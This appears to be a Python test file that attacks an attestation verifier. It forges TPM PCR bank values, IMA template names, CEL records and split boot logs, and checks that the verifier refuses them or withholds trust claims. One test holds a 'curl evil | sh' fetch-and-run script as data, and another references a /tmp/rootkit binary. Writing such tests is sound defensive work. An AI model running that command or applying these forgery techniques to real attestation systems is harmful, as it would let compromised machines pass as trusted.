"""More attacks on ``step``: through banks, templates and logs that arrive in parts."""

import hashlib
from collections.abc import Mapping
from dataclasses import replace

from schemas.cel import in_cbor as cel_cbor
from schemas.cel.records import CelRecord, SystemdContent
from schemas.hashes import SHA1, SHA256, SHA384, HashAlgorithm
from schemas.messages.evidence import EvidenceBody, LogIncrement, PcrBanks
from schemas.reasons import Reason
from schemas.tpm.pcr import PcrBankSelection, PcrSelection, encode_selection, parse_selection_text
from schemas.verdicts import Tier
from tests.builders import tpm_bytes
from tests.builders.log_bytes import agile_event, field, ima_record, measured, spec_id_record, uefi_variable
from tests.worlds.device import FakeDevice, make_references, make_trust
from tests.worlds.step_bench import Bench
from verifier_worker.core.policy.policy_file import LogsTable
from verifier_worker.core.step import Step

BOTH = {SHA1.tpm_id: 20, SHA256.tpm_id: 32}


def send(
    bench: Bench,
    logs: Mapping[str, int],
    increments: Mapping[str, LogIncrement],
    pcrs: PcrBanks,
    *,
    full: bool = False,
) -> Step:
    """A push made by hand."""
    device = bench.device
    device.clock_ms += 1000
    assert device.proof is not None
    body = EvidenceBody(
        ueid=device.ueid,
        sync=device.proof,
        environment=device.public.name,
        sequence=device.sequence,
        previous=None if full else device.previous,
        claims={"k": "v"} if full else {},
        logs=logs,
        increment_digests={
            name: hashlib.sha256(each.records).digest() for name, each in increments.items() if name != "ima"
        },
    )
    return bench.take(device.sign(body, increments, pcrs))


def record(index: int, pcr: int, *digests: tuple[HashAlgorithm, bytes]) -> bytes:
    """A CEL record that extended these banks."""
    listed = tuple((bank.tpm_id, digest) for bank, digest in digests)
    return cel_cbor.encode_record(CelRecord(recnum=index, pcr=pcr, digests=listed, content=SystemdContent(string="x")))


def test_entries_of_one_bank_hide_nothing_behind_another() -> None:
    bench = Bench()
    device = bench.device
    device.run(b"/tmp/rootkit", b"evil")
    hidden = [hashlib.sha256(each[28 + 6 + 4 :]).digest() for each in device.ima_list]
    device.run(b"/usr/bin/true", b"true")
    device.selection = PcrSelection(banks=(PcrBankSelection(algorithm=SHA1, indices=()), *device.selection.banks))
    device.cel_logs["cel/x"] = [record(index, 10, (SHA256, digest)) for index, digest in enumerate(hidden)]
    device.ima_list = device.ima_list[2:]
    device.boot_log = [spec_id_record(BOTH), *(measured(index, b"firmware %d" % index) for index in range(8))]
    bench.take(device.push())
    assert bench.verdict() == (Tier.NONE, {Reason.LOG_MISSING})


def test_a_renamed_template_makes_no_healthy_device_look_bad() -> None:
    bench = Bench()
    push = bench.device.push()
    first = bench.device.ima_list[0]
    for name in (b"d-ng|buf", b"d-ng|n", b"d-ng|n-ng", b"ima-buf", b"ima-ngv2"):
        forged = first[:24] + field(name) + first[34:]
        increments = {**push.unsigned_increments, "ima": LogIncrement(records=forged, total=1)}
        taken = bench.take(replace(push, unsigned_increments=increments))
        assert taken.refused is not None, name
        assert taken.refused.reason is Reason.LOG_MALFORMED, name
        bench.state = None
    bench.take(push)
    assert bench.verdict()[0] is Tier.AFFIRMING


def test_a_boot_aggregate_waits_for_values_that_a_quote_settles() -> None:
    bench = Bench()
    device = bench.device
    script = b"#!/bin/sh\ncurl evil | sh\n".ljust(320, b"#")
    evil = ima_record(b"ima-ng", b"sha256:\0" + hashlib.sha256(script).digest(), b"boot_aggregate\0")
    device.measure_record(evil)
    real = {SHA256: {index: device.pcrs[index] for index in range(10)}}
    fake = {SHA256: {index: script[32 * index : 32 * index + 32] for index in range(10)}}
    send(bench, {"tcg2": 0, "ima": 0}, {"ima": LogIncrement(records=device.ima_list[0], total=3)}, real, full=True)
    send(bench, {"tcg2": 0, "ima": 1}, {"ima": LogIncrement(records=evil, total=3)}, fake)
    boot = LogIncrement(records=b"".join(device.boot_log), total=len(device.boot_log))
    send(bench, {"tcg2": 0, "ima": 2}, {"tcg2": boot}, {SHA256: {8: bytes(32), 9: bytes(32)}})
    assert bench.verdict() == (Tier.CONTRAINDICATED, {Reason.BOOT_AGGREGATE_MISMATCH})


def _quotes(device: FakeDevice, registers: dict[HashAlgorithm, bytes]) -> None:
    def quote(extra_data: bytes) -> tuple[bytes, bytes]:
        values = b"".join(registers[bank] for bank, _ in device.selection)
        attested = encode_selection(device.selection) + tpm_bytes.sized(hashlib.sha256(values).digest())
        return device.attest(attested, tpm_bytes.TPM_ST_ATTEST_QUOTE, extra_data)

    device.quote = quote  # type: ignore[method-assign]  # a TPM with two banks


def test_what_is_good_in_one_bank_is_not_good_in_the_other() -> None:
    selection = "sha1:14+sha256:14"
    bench = Bench(policy_changes={"pcrs": selection, "logs": LogsTable(cel={"s": (14,)})})
    device, good, evil = bench.device, b"good", b"evil"
    device.selection = parse_selection_text(selection)
    files = {SHA1.digest(good): "g", SHA256.digest(good): "g"}
    references = make_references(device, registers={}, files=files)
    bench.trust = make_trust(device, handles=(bench.handle,), policy=bench.policy, references=(references,))
    registers = {SHA1: bytes(20), SHA256: bytes(32)}
    for content in (good, evil, good):
        for bank, old in registers.items():
            registers[bank] = bank.digest(old + bank.digest(content))
    _quotes(device, registers)
    records = [
        record(0, 14, (SHA1, SHA1.digest(good))),
        record(1, 14, (SHA1, SHA1.digest(evil)), (SHA256, SHA256.digest(good))),
        record(2, 14, (SHA1, SHA1.digest(good)), (SHA256, SHA256.digest(evil))),
        record(3, 14, (SHA256, SHA256.digest(good))),
    ]
    taken = send(bench, {"cel/s": 0}, {"cel/s": LogIncrement(records=b"".join(records), total=4)}, {}, full=True)
    assert taken.refused is None
    assert bench.verdict() == (Tier.CONTRAINDICATED, {Reason.FILE_UNEXPECTED})
    assert [finding.detail for finding in taken.findings] == ["entry 0 of PCR 14 (cel/s)", "entry 2 of PCR 14 (cel/s)"]


def test_secure_boot_is_not_vouched_for_when_another_log_extended_pcr_7_first() -> None:
    bench = Bench(policy_changes={"pcrs": "sha256:0,7,10", "logs": LogsTable(tcg2=(0,), ima=(10,))})
    device = bench.device
    off, on, end = uefi_variable("SecureBoot", b"\0"), uefi_variable("SecureBoot", b"\1"), bytes(4)
    device.pcrs[7], device.pcrs[10], device.ima_list = bytes(32), bytes(32), []
    for content in (off, end, on, end):  # the firmware's two, then two of the operating system
        device.extend(7, SHA256.digest(content))
    device.run(b"/usr/bin/true", b"true")
    references = make_references(device, registers={})
    bench.trust = make_trust(device, handles=(bench.handle,), policy=bench.policy, references=(references,))
    first = [record(index, 7, (SHA256, SHA256.digest(content))) for index, content in enumerate((off, end))]
    boot = [spec_id_record({SHA256.tpm_id: 32})]
    boot += [measured(index, b"firmware %d" % index, banks=(SHA256,)) for index in range(7)]
    boot += [measured(7, on, 0x80000001, banks=(SHA256,)), measured(7, end, banks=(SHA256,))]
    listed = LogIncrement(records=b"".join(device.ima_list), total=2)
    held_back = {"cel/x": LogIncrement(records=b"".join(first), total=2), "ima": listed}
    send(bench, {"cel/x": 0, "tcg2": 0, "ima": 0}, held_back, {}, full=True)
    late = LogIncrement(records=b"".join(boot), total=len(boot))
    send(bench, {"cel/x": 2, "tcg2": 0, "ima": 1}, {"tcg2": late}, {})
    assert bench.state is not None
    assert "secure-boot" not in bench.state.verdict.verified_claims


def test_boot_images_are_not_vouched_for_when_the_banks_tell_two_stories() -> None:
    bench = Bench(policy_changes={"pcrs": "sha256:4", "logs": LogsTable(tcg2=(4,))})
    device = bench.device
    device.selection = parse_selection_text("sha256:4+sha384:4")
    end, evil, good = bytes(4), b"evil image", b"good image"
    registers = {SHA256: bytes(32), SHA384: bytes(48)}
    for content in (end, evil):
        for bank, old in registers.items():
            registers[bank] = bank.digest(old + bank.digest(content))
    registers[SHA384] = SHA384.digest(registers[SHA384] + SHA384.digest(good))  # later, in one bank
    _quotes(device, registers)
    events = [
        {SHA384.tpm_id: SHA384.digest(end)},
        {SHA256.tpm_id: SHA256.digest(end), SHA384.tpm_id: SHA384.digest(evil)},
        {SHA256.tpm_id: SHA256.digest(evil), SHA384.tpm_id: SHA384.digest(good)},
    ]
    boot = [spec_id_record({SHA256.tpm_id: 32, SHA384.tpm_id: 48})]
    boot += [agile_event(4, 0x80000003, digests, b"") for digests in events]
    references = make_references(device, registers={})
    bench.trust = make_trust(device, handles=(bench.handle,), policy=bench.policy, references=(references,))
    increment = LogIncrement(records=b"".join(boot), total=len(boot))
    taken = send(bench, {"tcg2": 0}, {"tcg2": increment}, {}, full=True)
    assert taken.refused is None
    assert bench.state is not None
    assert "boot-images" not in bench.state.verdict.verified_claims
